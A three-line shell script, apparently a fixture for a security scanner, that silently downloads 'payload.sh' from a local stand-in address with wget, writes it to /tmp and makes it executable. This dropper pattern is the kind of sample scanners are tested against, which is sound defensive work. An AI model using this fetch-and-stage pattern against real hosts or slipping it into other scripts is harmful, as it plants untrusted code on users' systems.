#!/bin/sh
wget -q http://127.0.0.1:9/payload.sh -O /tmp/sentrascan-fixture
chmod +x /tmp/sentrascan-fixture
